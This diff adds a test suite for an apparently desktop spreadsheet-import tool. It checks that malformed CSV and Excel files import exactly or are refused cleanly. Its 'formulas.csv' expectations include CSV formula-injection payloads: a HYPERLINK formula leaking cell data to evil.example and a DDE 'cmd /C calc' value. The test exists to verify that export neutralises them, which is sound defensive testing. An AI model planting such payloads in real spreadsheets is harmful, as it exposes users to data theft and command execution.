@@ -1,0 +1,253 @@
+// Every file of the bad-input corpus (test/fixtures/bad) either imports exactly or is refused with its own
+// message, read both by the sheet reader and through the engine's contract, and a refusal leaves nothing behind.
+// docs/bad-inputs.md lists what each file does; this test checks the table against what it saw
+// (MATCHDESK_UPDATE_DOCS=1 rewrites it).
+import { existsSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import Database from 'better-sqlite3';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { ProjectSummary } from '../../shared/contract';
+import type { Engine } from '../../electron/engine/engine';
+import { openSheet, SheetError, type SheetErrorCode } from '../../electron/engine/sheets';
+import { CORPUS, CORPUS_DIR, writeCorpus } from '../fixtures/bad/make-corpus';
+import { callOk, openTestEngine, tempDir } from './safety-helpers';
+
+type Expected =
+  | {
+      rows: number;
+      headers: string[];
+      /** Exact rows by 0-based data row index. */
+      cells?: Record<number, string[]>;
+      warnings?: string[];
+    }
+  | { code: SheetErrorCode; fragment: string };
+
+const PEOPLE_HEADERS = ['Name', 'Email', 'Company', 'LinkedIn'];
+const ANN = ['Ann Lee', 'ann.lee@example.com', 'Acme Corp', 'https://www.linkedin.com/in/ann-lee-1/'];
+const CY = ['Cy Dubois', 'cy@example.org', 'Initech', ''];
+const NOT_A_SHEET = 'not a spreadsheet. Choose a CSV or Excel (.xlsx) file.';
+
+const EXPECTED: Record<string, Expected> = {
+  'utf8-bom.csv': { rows: 4, headers: PEOPLE_HEADERS, cells: { 0: ['José Núñez', 'jose@example.com', 'Café Ltd', ''], 3: CY } },
+  'utf16le-bom.csv': { rows: 5, headers: PEOPLE_HEADERS, cells: { 0: ['李小龍', 'lee@example.cn', 'Golden Harvest', ''], 1: ['Zoë 😀 Smith', 'zoe@example.com', 'Acme', ''], 2: ANN } },
+  'utf16be-bom.csv': { rows: 4, headers: PEOPLE_HEADERS, cells: { 0: ['Søren Ørsted', 'soren@example.dk', 'Ørsted A/S', ''], 1: ANN } },
+  'windows-1252.csv': { rows: 5, headers: PEOPLE_HEADERS, cells: { 0: ['Renée Weiß', 'renee@example.de', 'Müller & Söhne €', ''], 1: ['Dan O’Brien', 'dan@example.ie', 'Guinness', ''] } },
+  'utf32-le.csv': { code: 'not_a_spreadsheet', fragment: "is UTF-32 text, which Matchdesk can't read. Save it as UTF-8 CSV" },
+  'tab-delimited.tsv': { rows: 3, headers: PEOPLE_HEADERS, cells: { 0: ANN, 2: CY } },
+  'semicolon.csv': { rows: 3, headers: ['Name', 'Email', 'Company', 'Score'], cells: { 0: ['Ann Lee', 'ann.lee@example.com', 'Acme Corp', '1,5'], 1: ['Bo Chen', 'bo.chen@example.com', 'Globex, Inc.', '2,75'] } },
+  'pipe.csv': { rows: 3, headers: PEOPLE_HEADERS, cells: { 0: ANN, 2: CY } },
+  'crlf.csv': { rows: 3, headers: PEOPLE_HEADERS, cells: { 0: ANN, 2: CY } },
+  'cr-only.csv': { rows: 3, headers: PEOPLE_HEADERS, cells: { 0: ANN, 2: CY } },
+  'mixed-newlines-in-quotes.csv': {
+    rows: 3,
+    headers: ['Name', 'Notes', 'Email'],
+    cells: { 0: ['Ann Lee', 'line one\nline two', 'ann.lee@example.com'], 1: ['Bo Chen', 'a\r\nb', 'bo.chen@example.com'], 2: ['Cy Dubois', 'x\ry\r\nz', 'cy@example.org'] },
+  },
+  'no-final-newline.csv': { rows: 2, headers: ['Name', 'Company'], cells: { 0: ['Lee, Ann', 'Acme "West"'], 1: ['Bo Chen', 'Globex'] } },
+  'ragged-rows.csv': {
+    rows: 3,
+    headers: ['Name', 'Email', 'Company'],
+    cells: { 0: ['Ann Lee', 'ann.lee@example.com'], 1: ['Bo Chen', 'bo.chen@example.com', 'Globex', 'extra', 'more'], 2: ['Cy Dubois', 'cy@example.org', 'Initech'] },
+    warnings: ['ragged_rows'],
+  },
+  'blank-rows.csv': { rows: 2, headers: ['Name', 'Email'], cells: { 0: ['Ann Lee', 'ann.lee@example.com'], 1: ['Bo Chen', 'bo.chen@example.com'] }, warnings: ['empty_rows_skipped'] },
+  'duplicate-headers.csv': {
+    rows: 1,
+    headers: ['Email', 'Name', 'email (2)', 'EMAIL (3)'],
+    cells: { 0: ['ann.lee@example.com', 'Ann Lee', 'ann@home.example', 'a@b.example'] },
+    warnings: ['duplicate_headers'],
+  },
+  'empty-headers.csv': { rows: 1, headers: ['Name', 'Column 2', 'Email', 'Column 4'], cells: { 0: ['Ann Lee', 'x', 'ann.lee@example.com', 'y'] }, warnings: ['empty_headers'] },
+  'formulas.csv': {
+    rows: 3,
+    headers: ['Name', 'Email', 'Company'],
+    cells: {
+      0: ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', 'ann.lee@example.com', 'Acme'],
+      1: ["+cmd|' /C calc'!A0", 'bo.chen@example.com', '@SUM(1+1)'],
+      2: ['-2+3', 'cy@example.org', '=1+1'],
+    },
+  },
+  'unclosed-quote.csv': {
+    rows: 2,
+    headers: ['Name', 'Email'],
+    cells: { 0: ['Ann Lee', 'ann.lee@example.com'], 1: ['Bo Chen', 'bo.chen@example.com\nCy Dubois,cy@example.org\n'] },
+    warnings: ['unclosed_quote'],
+  },
+  'wide-row-later.csv': { code: 'too_many_columns', fragment: "has 1,200 columns in row 22; Matchdesk reads at most 1,000. Remove the columns you don't need" },
+  'empty.csv': { code: 'empty', fragment: 'is empty: there is nothing to import.' },
+  'bom-only.csv': { code: 'empty', fragment: 'is empty: there is nothing to import.' },
+  'whitespace-only.csv': { code: 'empty', fragment: 'is empty: there is nothing to import.' },
+  'header-only.csv': { code: 'header_only', fragment: 'has a header row but no data rows below it.' },
+  'binary-data.csv': { code: 'not_a_spreadsheet', fragment: `is a binary file, ${NOT_A_SHEET}` },
+  // A text file with one stray NUL in its first 8 KB is called binary; see the note in docs/bad-inputs.md.
+  'nul-bytes.csv': { code: 'not_a_spreadsheet', fragment: `is a binary file, ${NOT_A_SHEET}` },
+  'nul-bytes-late.csv': { rows: 331, headers: ['Name', 'Email'], cells: { 0: ['Ann Lee', 'ann.lee@example.com'], 330: ['Bo\0Chen', 'bo.chen@example.com'] } },
+  'png-renamed.csv': { code: 'not_a_spreadsheet', fragment: `is a PNG image, ${NOT_A_SHEET}` },
+  'document.pdf': { code: 'not_a_spreadsheet', fragment: `is a PDF document, ${NOT_A_SHEET}` },
+  'zip-not-xlsx.xlsx': { code: 'not_a_spreadsheet', fragment: `is a ZIP archive, ${NOT_A_SHEET}` },
+  'word-renamed.xlsx': { code: 'not_a_spreadsheet', fragment: `is a Word document, ${NOT_A_SHEET}` },
+  'opendocument.ods': { code: 'not_a_spreadsheet', fragment: "is an OpenDocument file (.ods), which Matchdesk can't read. Open it in Excel and save it as .xlsx or CSV" },
+  'web-page.xls': { code: 'not_a_spreadsheet', fragment: 'is a web page (HTML), not a spreadsheet. Some systems save web pages under an Excel name.' },
+  'legacy-excel-97.xls': { code: 'not_a_spreadsheet', fragment: "is in the old Excel 97–2003 format (.xls), which Matchdesk can't read." },
+  'hidden-first-sheet.xlsx': { rows: 3, headers: PEOPLE_HEADERS, cells: { 0: ANN, 2: CY } },
+  'only-hidden-sheets.xlsx': { code: 'empty', fragment: 'has no visible worksheets: there is nothing to import.' },
+  'password-protected.xlsx': { code: 'encrypted', fragment: 'is password-protected: save it without a password and try again.' },
+  'truncated.xlsx': { code: 'corrupt', fragment: "is damaged or incomplete and can't be read as an Excel workbook." },
+  'header-only.xlsx': { code: 'header_only', fragment: 'The sheet “People” in “header-only.xlsx” has a header row but no data rows below it.' },
+  'cell-5mb.csv': { code: 'cell_too_large', fragment: 'The cell in row 3002, column C (“Notes”) of “cell-5mb.csv” is over' },
+  'columns-2000.csv': { code: 'too_many_columns', fragment: "has 2,000 columns in row 1; Matchdesk reads at most 1,000. Remove the columns you don't need" },
+  'long-line.csv': { rows: 2, headers: Array.from({ length: 900 }, (_, i) => `c${i + 1}`), cells: { 1: ['end'] }, warnings: ['ragged_rows'] },
+};
+
+const DOC = join(__dirname, '../../docs/bad-inputs.md');
+const TABLE_START = '<!-- corpus table: kept in sync by test/safety/bad-inputs.test.ts -->';
+const TABLE_END = '<!-- end of corpus table -->';
+
+type Observed = { kind: 'imported'; rows: number; warnings: string[] } | { kind: 'refused'; code: string; message: string };
+
+let tmp: ReturnType<typeof tempDir>;
+let engine: Engine;
+let generated: Map<string, string>;
+const observed = new Map<string, Observed>();
+
+beforeAll(async () => {
+  tmp = tempDir('matchdesk-bad-');
+  generated = await writeCorpus(join(tmp.dir, 'generated'), 'generated');
+  engine = await openTestEngine(join(tmp.dir, 'data'));
+});
+afterAll(async () => {
+  await engine?.close();
+  tmp?.remove();
+});
+
+function pathOf(file: string): string {
+  return generated.get(file) ?? join(CORPUS_DIR, file);
+}
+
+async function readAll(path: string): Promise<{ headers: string[]; rows: string[][]; warnings: string[] }> {
+  const sheet = await openSheet(path);
+  const rows: string[][] = [];
+  for await (const row of sheet.rows()) rows.push(row);
+  return { headers: sheet.headers, rows, warnings: sheet.warnings.map((w) => w.code) };
+}
+
+/** What a failed import could leave behind that projects.list does not show: unfinished projects, stray rows. */
+function leftovers(): { unfinished: number; strayRows: number } {
+  const db = new Database(engine.dbPath, { readonly: true, fileMustExist: true });
+  try {
+    return {
+      unfinished: db.prepare("SELECT count(*) FROM projects WHERE status <> 'ready'").pluck().get() as number,
+      strayRows: db.prepare('SELECT count(*) FROM rows WHERE project_id NOT IN (SELECT id FROM projects)').pluck().get() as number,
+    };
+  } finally {
+    db.close();
+  }
+}
+
+describe('the bad-input corpus', () => {
+  it('has at least 25 files, each with an expected outcome, and the committed files are what make-corpus.ts builds', async () => {
+    expect(CORPUS.length).toBeGreaterThanOrEqual(25);
+    expect(Object.keys(EXPECTED).sort()).toEqual(CORPUS.map((c) => c.file).sort());
+    const onDisk = readdirSync(CORPUS_DIR).filter((f) => f !== 'make-corpus.ts');
+    expect(onDisk.sort()).toEqual(CORPUS.filter((c) => !c.generated).map((c) => c.file).sort());
+    // exceljs stamps ZIP entries with the current time, so only the byte-exact formats are compared.
+    for (const entry of CORPUS.filter((c) => !c.generated && !c.file.endsWith('.xlsx'))) {
+      expect(readFileSync(join(CORPUS_DIR, entry.file)).equals(await entry.build()), `${entry.file} differs from make-corpus.ts: regenerate it`).toBe(true);
+    }
+  });
+
+  it.each(CORPUS.map((c) => c.file))('%s: imports exactly or is refused with its own message, and leaves no half-made project', async (file) => {
+    const expected = EXPECTED[file]!;
+    const path = pathOf(file);
+    const before = await callOk(engine, 'projects.list', {});
+
+    // The reader on its own.
+    const direct: Awaited<ReturnType<typeof readAll>> | Error = await readAll(path).catch((err: unknown) => (err instanceof Error ? err : new Error(String(err))));
+    // The same file through the contract.
+    const result = await engine.call('projects.import', { file: path });
+
+    if ('code' in expected) {
+      expect(direct).toBeInstanceOf(SheetError);
+      const err = direct as SheetError;
+      expect(err.code).toBe(expected.code);
+      expect(err.message).toContain(expected.fragment);
+      expect(result.ok).toBe(false);
+      if (result.ok) return;
+      expect(result.error).toEqual({ kind: 'sheet', code: expected.code, message: err.message });
+      expect(await callOk(engine, 'projects.list', {})).toEqual(before);
+      expect(leftovers()).toEqual({ unfinished: 0, strayRows: 0 });
+      observed.set(file, { kind: 'refused', code: err.code, message: err.message });
+      return;
+    }
+
+    if (direct instanceof Error) throw direct;
+    expect(direct.headers).toEqual(expected.headers);
+    expect(direct.rows).toHaveLength(expected.rows);
+    for (const [index, cells] of Object.entries(expected.cells ?? {})) expect(direct.rows[Number(index)]).toEqual(cells);
+    expect(direct.warnings).toEqual(expected.warnings ?? []);
+
+    if (!result.ok) throw new Error(`projects.import failed: ${result.error.message}`);
+    const detail = result.value;
+    expect(detail.summary.rowCount).toBe(expected.rows);
+    expect(detail.headers).toEqual(expected.headers);
+    expect(detail.warnings.map((w) => w.code)).toEqual(expected.warnings ?? []);
+    expect(detail.sample).toEqual(direct.rows.slice(0, detail.sample.length));
+    // Every row as stored, cell for cell, against what the reader gave.
+    for (let i = 0; i < direct.rows.length; i++) {
+      const row = await callOk(engine, 'review.row', { projectId: detail.summary.id, rowIndex: i });
+      expect(row.cells).toEqual(direct.rows[i]);
+    }
+    const after: ProjectSummary[] = await callOk(engine, 'projects.list', {});
+    expect(after.map((p) => p.id).sort()).toEqual([...before.map((p) => p.id), detail.summary.id].sort());
+    observed.set(file, { kind: 'imported', rows: direct.rows.length, warnings: direct.warnings });
+  });
+
+  it('lists the visible sheets only, and a hidden sheet is still importable by name', async () => {
+    const path = pathOf('hidden-first-sheet.xlsx');
+    expect(await callOk(engine, 'projects.sheets', { file: path })).toEqual(['People']);
+    const hidden = await callOk(engine, 'projects.import', { file: path, sheet: 'Lookup' });
+    expect(hidden.sheetName).toBe('Lookup');
+    expect(hidden.sample).toEqual([['X1', 'secret']]);
+  });
+
+  it('exports the formula cells so that a spreadsheet keeps them as text', async () => {
+    const project = await callOk(engine, 'projects.import', { file: pathOf('formulas.csv') });
+    const out = join(tmp.dir, 'formulas-out.csv');
+    await callOk(engine, 'export.run', { projectId: project.summary.id, format: 'csv', scope: 'all', destination: out, bom: false });
+    const text = readFileSync(out, 'utf8');
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
+    expect(text).toContain(`'+cmd|' /C calc'!A0`);
+    expect(text).toContain(`'@SUM(1+1)`);
+    expect(text).toContain(`'=1+1`);
+    expect(text).toContain(`'-2+3`);
+  });
+
+  it('docs/bad-inputs.md lists every file with the outcome seen here', () => {
+    expect([...observed.keys()].sort()).toEqual(CORPUS.map((c) => c.file).sort());
+    const table = renderTable();
+    const doc = existsSync(DOC) ? readFileSync(DOC, 'utf8') : '';
+    const start = doc.indexOf(TABLE_START);
+    const end = doc.indexOf(TABLE_END);
+    if (process.env.MATCHDESK_UPDATE_DOCS === '1' && start >= 0 && end > start) {
+      writeFileSync(DOC, `${doc.slice(0, start + TABLE_START.length)}\n${table}${doc.slice(end)}`);
+      return;
+    }
+    expect(start, `${DOC} must hold the markers ${TABLE_START} ... ${TABLE_END}`).toBeGreaterThanOrEqual(0);
+    expect(doc.slice(start + TABLE_START.length, end), 'docs/bad-inputs.md is out of date: run this test with MATCHDESK_UPDATE_DOCS=1').toBe(`\n${table}`);
+  });
+});
+
+function renderTable(): string {
+  const cell = (text: string) => text.replace(/\|/g, '\\|').replace(/\r?\n|\r/g, ' ');
+  const lines = ['| File | What it is | Outcome |', '| --- | --- | --- |'];
+  for (const entry of CORPUS) {
+    const seen = observed.get(entry.file)!;
+    const name = entry.generated ? `\`${entry.file}\` (generated)` : `[\`${entry.file}\`](../test/fixtures/bad/${entry.file})`;
+    const outcome =
+      seen.kind === 'imported'
+        ? `imported: ${seen.rows} row${seen.rows === 1 ? '' : 's'}${seen.warnings.length ? `, noted: ${seen.warnings.map((w) => `\`${w}\``).join(', ')}` : ''}`
+        : `refused, \`${seen.code}\`: ${seen.message}`;
+    lines.push(`| ${name} | ${cell(entry.about)} | ${cell(outcome)} |`);
+  }
+  return `${lines.join('\n')}\n`;
+}
